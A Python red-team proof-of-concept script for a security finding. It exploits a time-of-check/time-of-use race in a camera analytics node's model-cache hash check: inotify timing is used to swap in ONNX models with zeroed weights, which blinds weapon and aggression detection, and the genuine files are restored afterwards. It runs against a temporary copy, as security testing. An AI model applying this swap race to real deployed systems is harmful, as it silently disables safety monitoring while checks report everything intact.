"""Finding 1: the model cache's SHA-256 check and the load read the file twice (TOCTOU).

``model_registry.model_path`` hashes ``<cache>/<model>.onnx`` and returns the *path*; the loader
(``PoseEstimator``, ``ObjectDetector``, ...) opens that path again later. Whoever can write to
the cache folder swaps the file in between and the node runs an altered model with no error;
swapping the genuine file back afterwards leaves the cache verifying "ok".

Real processes, real files: a copy of the installed cache in a temporary folder; the node's own
``load_threat_models`` (weapon + aggression rules) runs in a child process; this process is the
attacker, told by inotify (Linux) when the node has finished reading the file to hash it.

Run: PYTHONPATH=$PWD /work/main/.venv/bin/python redteam/model_swap_race.py
Exit 0 = the attack succeeded (the node loaded the altered models), 1 = it was refused.
"""

from __future__ import annotations

import ctypes
import os
import shutil
import struct
import subprocess
import sys
import tempfile
from pathlib import Path

import numpy as np
import onnx
from onnx import numpy_helper

from privacy import model_registry

IN_CLOSE_NOWRITE = 0x10
TARGETS = {"blazepose-lite.onnx", "nanodet.onnx"}

LOADER = r"""
import sys
from pathlib import Path
from nodes.analytics.config import CameraAnalytics
from nodes.analytics.aggression_watch import load_threat_models
from privacy import model_registry
cameras = [CameraAnalytics.model_validate({"rules": [
    {"type": "aggression", "id": "fight"}, {"type": "weapon", "id": "armed"}]})]
try:
    models = load_threat_models(cameras, Path(sys.argv[1]))
except Exception as exc:
    print("REFUSED", type(exc).__name__, exc); raise SystemExit(1)
pose = models.pose.estimator._session.get_modelmeta().producer_name
objects = models.objects._session.get_modelmeta().producer_name
print("LOADED pose producer=%s objects producer=%s" % (pose, objects))
print("STATUS", model_registry.status(Path(sys.argv[1])))
"""


def altered(source: Path, target: Path) -> None:
    """The same graph with every convolution weight zeroed (a model that never sees anyone)
    and a producer name that shows which file onnxruntime actually read."""
    model = onnx.load(str(source))
    weights = {n.input[1] for n in model.graph.node if n.op_type == "Conv"}
    for init in model.graph.initializer:
        if init.name in weights:
            array = numpy_helper.to_array(init)
            init.CopyFrom(numpy_helper.from_array(np.zeros_like(array), init.name))
    model.producer_name = "ALTERED-BY-ATTACKER"
    onnx.save(model, str(target))


def main() -> int:
    real = model_registry.default_cache_dir()
    with tempfile.TemporaryDirectory(prefix="redteam-cache-") as tmp:
        cache, stash = Path(tmp) / "cache", Path(tmp) / "stash"
        cache.mkdir()
        stash.mkdir()
        for name in TARGETS:
            shutil.copy2(real / name, cache / name)
            shutil.copy2(real / name, stash / f"{name}.good")
            altered(real / name, stash / f"{name}.bad")
        libc = ctypes.CDLL("libc.so.6", use_errno=True)
        fd = libc.inotify_init()
        libc.inotify_add_watch(fd, str(cache).encode(), IN_CLOSE_NOWRITE)
        child = subprocess.Popen([sys.executable, "-c", LOADER, str(cache)],
                                 stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        closes = dict.fromkeys(TARGETS, 0)
        while child.poll() is None and min(closes.values()) < 2:
            os.set_blocking(fd, False)
            try:
                buf = os.read(fd, 4096)
            except BlockingIOError:
                continue
            offset = 0
            while offset < len(buf):
                _, _mask, _, length = struct.unpack_from("iIII", buf, offset)
                name = buf[offset + 16: offset + 16 + length].rstrip(b"\0").decode()
                offset += 16 + length
                if name in closes:
                    closes[name] += 1
                    if closes[name] == 1:  # the hash has been read: swap in the altered model
                        os.replace(shutil.copy2(stash / f"{name}.bad", cache / f".{name}"),
                                   cache / name)
                    elif closes[name] == 2:  # onnxruntime has read it: put the genuine one back
                        os.replace(shutil.copy2(stash / f"{name}.good", cache / f".{name}"),
                                   cache / name)
        out, _ = child.communicate()
        print(out.strip())
        return 0 if "ALTERED-BY-ATTACKER" in out else 1


if __name__ == "__main__":
    raise SystemExit(main())
